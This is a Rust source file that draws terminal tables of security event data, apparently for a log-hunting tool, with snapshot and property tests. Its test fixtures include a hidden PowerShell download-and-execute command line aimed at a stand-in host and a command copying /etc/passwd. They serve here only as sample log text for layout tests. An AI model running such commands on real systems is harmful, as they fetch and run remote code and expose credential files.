//! A grid: one line of cells a row, columns as wide as they need or as the terminal lets them.

use std::borrow::Cow;

use comfy_table::{Attribute, CellAlignment, ContentArrangement, Table, presets};
use spelunk_engine::values::Cell;

use super::{fit, order, record};
use crate::escape;

/// No column of text is narrower than this, or than it needs.
const FLOOR: usize = 12;
/// The same for raw events, of which only the columns that fit are shown: a few that can be read beat many that cannot.
const EVENT_FLOOR: usize = 20;
/// How many rows are looked at to find how wide the columns are.
const MEASURED: usize = 1000;
/// How many lines a text may take in its cell.
const TEXT_LINES: usize = 3;
/// How many values of a multivalue field are shown in a cell.
const VALUES: usize = 10;

/// A column of the grid.
struct Column {
    header: String,
    /// The place of its cells in a row.
    position: usize,
    /// The width at which nothing is cut.
    natural: usize,
    /// Numbers stand to the right, and are never cut: a cut number is a wrong number.
    numeric: bool,
    /// Whether it may not be narrower than its natural width.
    rigid: bool,
}

impl Column {
    fn measure(position: usize, name: &str, rows: &[Vec<Cell>]) -> Self {
        let header = escape::line(name).into_owned();
        // A column without a name and values is still one cell wide.
        let mut natural = fit::width(&header).max(1);
        let (mut numeric, mut rigid, mut seen) = (true, true, false);
        for cell in rows.iter().filter_map(|row| row.get(position)) {
            numeric &= matches!(cell, Cell::Number(_) | Cell::Null);
            rigid &= matches!(cell, Cell::Number(_) | Cell::Time(_) | Cell::Null);
            seen |= *cell != Cell::Null;
        }
        for cell in rows.iter().take(MEASURED).filter_map(|row| row.get(position)) {
            let width = match cell {
                Cell::Null => 0,
                Cell::Text(text) | Cell::Number(text) | Cell::Time(text) => fit::width(&shown(text)),
                Cell::Many(values) => values.iter().map(|value| fit::width(&shown(value))).max().unwrap_or(0),
            };
            natural = natural.max(width);
        }
        Self { header, position, natural, numeric: numeric && seen, rigid: rigid && seen }
    }

    fn floor(&self, floor: usize) -> usize {
        if self.rigid { self.natural } else { self.natural.min(floor) }
    }
}

/// Draws all columns; `None` where they do not fit.
pub fn draw(columns: &[String], rows: &[Vec<Cell>], width: Option<usize>, colour: bool) -> Option<String> {
    let columns: Vec<Column> =
        columns.iter().enumerate().map(|(position, name)| Column::measure(position, name, rows)).collect();
    draw_columns(&columns, rows, width, colour)
}

/// Draws as many of the columns that have a value as fit, the telling ones first, and names the others. `None` where not even
/// one fits.
pub fn draw_some(
    names: &[String],
    rows: &[Vec<Cell>],
    width: Option<usize>,
    colour: bool,
) -> Option<(String, Vec<String>)> {
    draw_first(names, rows, 0, width, colour)
}

/// The same, with so many columns of the beginning before the telling ones.
pub fn draw_first(
    names: &[String],
    rows: &[Vec<Cell>],
    first: usize,
    width: Option<usize>,
    colour: bool,
) -> Option<(String, Vec<String>)> {
    let mut columns: Vec<Column> = names
        .iter()
        .enumerate()
        .filter(|(position, _)| rows.iter().any(|row| row.get(*position).is_some_and(|cell| *cell != Cell::Null)))
        .map(|(position, name)| Column::measure(position, name, rows))
        .collect();
    columns.sort_by_key(|column| if column.position < first { (0, 0) } else { rank(&column.header) });
    let fitting = match width {
        None => columns.len(),
        Some(width) => {
            let mut used = 1;
            let fits = |column: &&Column| {
                used += column.floor(EVENT_FLOOR) + 3;
                used <= width
            };
            columns.iter().take_while(fits).count()
        }
    };
    let rest = columns.split_off(fitting);
    if columns.is_empty() {
        return None;
    }
    let drawn = draw_columns(&columns, rows, width, colour)?;
    Some((drawn, rest.into_iter().map(|column| column.header).collect()))
}

/// Draws all columns: a record a row where a grid does not fit.
pub fn draw_all(columns: &[String], rows: &[Vec<Cell>], width: Option<usize>, colour: bool) -> String {
    draw(columns, rows, width, colour).unwrap_or_else(|| {
        let records = (1..).zip(rows);
        records.map(|(number, row)| record::draw(number, columns, row, width, true, colour)).collect()
    })
}

fn draw_columns(columns: &[Column], rows: &[Vec<Cell>], width: Option<usize>, colour: bool) -> Option<String> {
    let naturals: Vec<usize> = columns.iter().map(|column| column.natural).collect();
    let widths = match width {
        None => vec![usize::MAX; columns.len()],
        // Each column has a space on both sides, and a border between it and the next.
        Some(width) => {
            let floors: Vec<usize> = columns.iter().map(|column| column.floor(FLOOR)).collect();
            fit::share(&naturals, &floors, width.checked_sub(3 * columns.len() + 1)?)?
        }
    };
    let mut table = Table::new();
    table
        .load_style(presets::UTF8_FULL_CONDENSED.with_rounded_corners())
        .set_content_arrangement(ContentArrangement::Disabled)
        .force_no_tty();
    if colour {
        table.enforce_styling();
    }
    table.set_header(columns.iter().zip(&widths).map(|(column, width)| {
        comfy_table::Cell::new(fit::cut_middle(&column.header, *width)).add_attribute(Attribute::Bold)
    }));
    for row in rows {
        table.add_row(
            columns
                .iter()
                .zip(&widths)
                .map(|(column, width)| row.get(column.position).map_or_else(String::new, |cell| lay_out(cell, *width))),
        );
    }
    for (column, drawn) in columns.iter().zip(table.column_iter_mut()) {
        if column.numeric {
            drawn.set_cell_alignment(CellAlignment::Right);
        }
    }
    Some(table.lines().map(|line| line + "\n").collect())
}

/// The lines of a cell.
fn lay_out(cell: &Cell, width: usize) -> String {
    match cell {
        Cell::Null => String::new(),
        Cell::Number(text) | Cell::Time(text) => fit::cut_end(&shown(text), width),
        Cell::Text(text) => {
            let text = shown(text);
            if looks_like_path(&text) {
                fit::cut_middle(&text, width)
            } else {
                fit::wrap(&text, width, TEXT_LINES).join("\n")
            }
        }
        Cell::Many(values) => {
            let mut lines: Vec<String> =
                values.iter().take(VALUES).map(|value| fit::cut_middle(&shown(value), width)).collect();
            if values.len() > VALUES {
                lines.push(fit::cut_end(&format!("… {} more", values.len() - VALUES), width));
            }
            lines.join("\n")
        }
    }
}

/// A text as shown on one line. The empty string is told from null as in CSV.
fn shown(text: &str) -> Cow<'_, str> {
    if text.is_empty() { Cow::Borrowed("\"\"") } else { escape::line(text) }
}

/// Breaking a path over lines makes it unreadable; its middle says least. A command line is no path.
fn looks_like_path(text: &str) -> bool {
    if !text.contains(' ') {
        return text.contains(['/', '\\']);
    }
    let rooted = text.starts_with("\\\\") || text.starts_with('/') || text.get(1..3) == Some(":\\");
    rooted && !text.contains('"') && !text.contains(" -") && !text.contains(" /")
}

/// Where a column of raw events stands: when and where first, what says how the event was read last.
fn rank(column: &str) -> (u8, usize) {
    match column {
        "#" | "_time" => (0, 0),
        "host" => (1, 0),
        name => (2, order::of(name)),
    }
}

#[cfg(test)]
mod tests {
    use super::super::samples::*;
    use super::*;
    use proptest::prelude::*;
    use unicode_width::UnicodeWidthStr;

    #[test]
    fn a_small_table() {
        let rows = [
            vec![text("svchost.exe"), number("12"), Cell::Null],
            vec![text("cmd.exe"), number("3.5"), many(&["a", "b"])],
            vec![text(""), Cell::Null, text("x\ny\x1b")],
        ];
        insta::assert_snapshot!(draw(&names(&["Image", "count", "values(x)"]), &rows, Some(80), false).unwrap(), @r#"
        ╭─────────────┬───────┬───────────╮
        │ Image       ┆ count ┆ values(x) │
        ╞═════════════╪═══════╪═══════════╡
        │ svchost.exe ┆    12 ┆           │
        │ cmd.exe     ┆   3.5 ┆ a         │
        │             ┆       ┆ b         │
        │ ""          ┆       ┆ x␊y␛      │
        ╰─────────────┴───────┴───────────╯
        "#);
    }

    #[test]
    fn wide_cells_give_way() {
        let rows = [vec![
            Cell::Time("2019-05-12T12:52:43.123+00:00".into()),
            text(r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"),
            text("powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://x/y')\""),
        ]];
        insta::assert_snapshot!(draw(&names(&["_time", "Image", "CommandLine"]), &rows, Some(80), false).unwrap(), @r#"
        ╭───────────────────────────────┬───────────────────────┬──────────────────────╮
        │ _time                         ┆ Image                 ┆ CommandLine          │
        ╞═══════════════════════════════╪═══════════════════════╪══════════════════════╡
        │ 2019-05-12T12:52:43.123+00:00 ┆ C:\Win…powershell.exe ┆ powershell -nop -w   │
        │                               ┆                       ┆ hidden -c "IEX       │
        │                               ┆                       ┆ (New-Object Net.Web… │
        ╰───────────────────────────────┴───────────────────────┴──────────────────────╯
        "#);
    }

    #[test]
    fn no_column_becomes_a_sliver() {
        let columns: Vec<String> = (0..10).map(|n| format!("a_rather_long_name_{n}")).collect();
        let rows = [columns.iter().map(|name| text(name)).collect()];
        assert_eq!(draw(&columns, &rows, Some(80), false), None);
        let (drawn, rest) = draw_some(&columns, &rows, Some(80), false).unwrap();
        assert_eq!(rest.len(), 7);
        assert!(drawn.lines().all(|line| line.width() <= 80), "{drawn}");
    }

    #[test]
    fn events_show_what_has_values_and_time_first() {
        let rows = [vec![text("s"), text("x"), Cell::Null, Cell::Time("2019".into())]];
        let (drawn, rest) = draw_some(&names(&["source", "a", "b", "_time"]), &rows, None, false).unwrap();
        assert!(rest.is_empty());
        assert!(drawn.contains("│ _time ┆ a ┆ source │"), "{drawn}");
    }

    #[test]
    fn paths() {
        for path in [
            "/usr/bin/ls",
            r"C:\Program Files\x.exe",
            r"\\host\a share\x",
            "a/b",
            "/evidence/Privilege Escalation/a.evtx",
        ] {
            assert!(looks_like_path(path), "{path}");
        }
        for other in [
            r"C:\x.exe -nop",
            r#""C:\Program Files\x.exe""#,
            r"C:\x.exe /c dir",
            "a b/c",
            "word",
            "/bin/ls -l",
            "/bin/cp /etc/passwd /tmp",
        ] {
            assert!(!looks_like_path(other), "{other}");
        }
    }

    #[test]
    fn every_width() {
        let columns = names(&["Image", "count", "values(User)"]);
        let image = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
        let rows = [
            vec![text(image), number("1204"), many(&["LAB\\alice", "LAB\\bob"])],
            vec![text("a\x1b[31m\u{202e}b"), number("7"), Cell::Null],
        ];
        for width in [20, 40, 80, 200] {
            insta::assert_snapshot!(format!("grid_{width}"), draw_all(&columns, &rows, Some(width), false));
        }
    }

    proptest! {
        #[test]
        fn every_line_fits((columns, rows) in any_table(), width in 20usize..160) {
            let some = draw_some(&columns, &rows, Some(width), false).map(|(drawn, _)| drawn);
            for drawn in [draw(&columns, &rows, Some(width), false), some].into_iter().flatten() {
                for line in drawn.lines() {
                    prop_assert!(line.width() <= width, "{line}");
                    prop_assert!(!line.chars().any(|c| escape::is_unsafe(c) || c == '\t'), "{line:?}");
                }
            }
        }
    }
}
